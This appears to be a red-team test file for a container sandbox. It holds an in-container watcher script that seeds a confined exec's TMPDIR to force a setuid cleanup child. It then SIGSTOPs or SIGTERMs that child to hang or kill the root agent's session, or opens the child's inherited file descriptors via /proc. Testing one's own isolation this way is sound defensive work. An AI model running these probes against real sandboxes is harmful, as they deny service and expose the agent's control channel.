# ruff: noqa: E501  (in-container probes read best on one line)
"""Red team: the TMPDIR cleanup child of a confined exec (`exec_cleanup._empty_as`).

After a confined exec whose TMPDIR is not empty, the agent (root) forks and the child
setuid's to the command user (1000) to empty it, while the agent waits in a blocking
``waitpid``. The child is then a process of the command user: every command may signal
it. A background command (unconfined, same session) waits for the child and:

- ``stop``: SIGSTOPs it. The agent's event loop is stuck in ``waitpid`` (no WUNTRACED):
  no exec of the session starts, reports output or exits, no timeout fires, until the
  attacker SIGCONTs (here after HOLD seconds; an attacker never would).
- ``term``: sends it SIGTERM. The child is a copy of the agent: its Python signal
  handler writes the signal number into the agent's asyncio wake-up socket (shared by
  fork), so the *agent* then acts on "SIGTERM": it ends the session.
- ``fds``: lists ``/proc/<child>/fd`` and tries to open each (the child holds copies of
  every agent fd, the exec channel included).

The watcher puts files in the confined exec's TMPDIR (root-owned, mode 1777, so any
command may) so that root's first ``rmdir`` fails and the child is forked.

Run: .venv/bin/python -m tests.redteam_pending.cleanup_child [runc] [stop|term|fds]
Exit status 1 when the attack worked (the promise is broken).
Under runsc there is no Landlock, so no TMPDIR and no child: nothing to attack.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time

from sandbox import DockerBackend, SessionSpec
from sandbox.confinement import Confinement
from security import NetworkPolicy, analyze

HOLD = 20.0

WATCHER = r"""
import os, signal, sys, time, glob
mode, hold = sys.argv[1], float(sys.argv[2])
def status(pid):
    try:
        d = {}
        for line in open(f"/proc/{pid}/status"):
            k, _, v = line.partition(":")
            d[k] = v.split()
        return d
    except OSError:
        return None
agent = None
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            cmd = open(f"/proc/{p}/cmdline", "rb").read()
        except OSError:
            continue
        if cmd.startswith(b"python3\0-I\0-S\0-c"):
            agent = p
print("agent pid", agent, flush=True)
me = str(os.getpid())
seeded = set()
end = time.time() + 40
while time.time() < end:
    for d in glob.glob("/tmp/airlock-ro-*"):
        if d not in seeded:
            seeded.add(d)
            try:
                for i in range(3000):
                    open(f"{d}/f{i}", "w").close()
                print("seeded", d, flush=True)
            except OSError as e:
                print("seed failed", d, e, flush=True)
    for p in os.listdir("/proc"):
        if not p.isdigit() or p == me:
            continue
        st = status(p)
        if not st or st.get("PPid", [""])[0] != agent or st.get("Uid", [""])[0] != "1000":
            continue
        try:
            cmd = open(f"/proc/{p}/cmdline", "rb").read()
        except OSError as e:
            cmd = repr(e).encode()
        if not cmd.startswith(b"python3\0-I\0-S\0-c"):
            continue
        pid = int(p)
        print("cleanup child", pid, "Uid", st["Uid"], "CapEff", st.get("CapEff"), flush=True)
        if mode == "fds":
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
                print("fd list", fds, flush=True)
            except OSError as e:
                print("fd list refused", e, flush=True)
                fds = ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "10"]
            for fd in fds:
                try:
                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
                except OSError as e:
                    link = repr(e)
                try:
                    h = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    print("OPENED for write", fd, link, flush=True)
                    os.close(h)
                except OSError as e:
                    print("open", fd, link, "->", e, flush=True)
            sys.exit(0)
        sig = signal.SIGSTOP if mode == "stop" else signal.SIGTERM
        os.kill(pid, sig)
        print("sent", sig.name, "to", pid, flush=True)
        if mode == "stop":
            time.sleep(hold)
            os.kill(pid, signal.SIGCONT)
            print("SIGCONT after", hold, flush=True)
        sys.exit(0)
    time.sleep(0.001)
print("no child seen", flush=True)
sys.exit(5)
"""


def confinement_of(line: str) -> Confinement:
    return Confinement.for_commands(analyze(line, "read-only").commands)


async def attack(runtime: str, mode: str) -> bool:
    spec = SessionSpec(runtime=runtime, egress=NetworkPolicy(allow=["files.test"]))
    async with DockerBackend().session(spec) as s:
        watcher = asyncio.create_task(
            s.exec(["python3", "-c", WATCHER, mode, str(HOLD)], timeout=60)
        )
        await asyncio.sleep(1.0)
        line = "sleep 0.5; cat /etc/hostname"
        t0 = time.monotonic()
        confined = asyncio.create_task(s.exec(line, confinement=confinement_of(line), timeout=10))
        await asyncio.sleep(2.0)
        probe_t = time.monotonic()
        broken = False
        try:
            probe = await asyncio.wait_for(s.exec(["echo", "alive"], timeout=5), 10)
            took = time.monotonic() - probe_t
            print(
                f"probe exec: exit {probe.exit_code} {probe.stdout!r} error={probe.error!r} in {took:.2f} s"
            )
            if mode == "term" and (probe.exit_code != 0 or b"alive" not in probe.stdout):
                broken = True
        except Exception as exc:  # the session is gone or stuck
            took = time.monotonic() - probe_t
            print(f"probe exec failed after {took:.2f} s: {exc!r}")
            broken = True
        try:
            c = await asyncio.wait_for(confined, HOLD + 15)
            print(
                f"confined exec: exit {c.exit_code} after {time.monotonic() - t0:.2f} s; error={c.error!r}; report={c.confinement}"
            )
        except Exception as exc:
            print(f"confined exec failed: {exc!r}")
        try:
            w = await asyncio.wait_for(watcher, 60)
            print("watcher:", w.exit_code, w.stdout.decode(), w.stderr.decode()[-500:])
            if mode == "fds" and b"OPENED" in w.stdout:
                broken = True
        except Exception as exc:
            print(f"watcher failed: {exc!r}")
        if mode == "stop" and not broken and took > 8:
            broken = True
        return broken


if __name__ == "__main__":
    os.environ["AIRLOCK_EGRESS_RESOLVE"] = "files.test=127.0.0.1"
    runtime = sys.argv[1] if len(sys.argv) > 1 else "runc"
    which = sys.argv[2] if len(sys.argv) > 2 else "stop"
    broken = asyncio.run(attack(runtime, which))
    print("BROKEN" if broken else "held")
    sys.exit(1 if broken else 0)
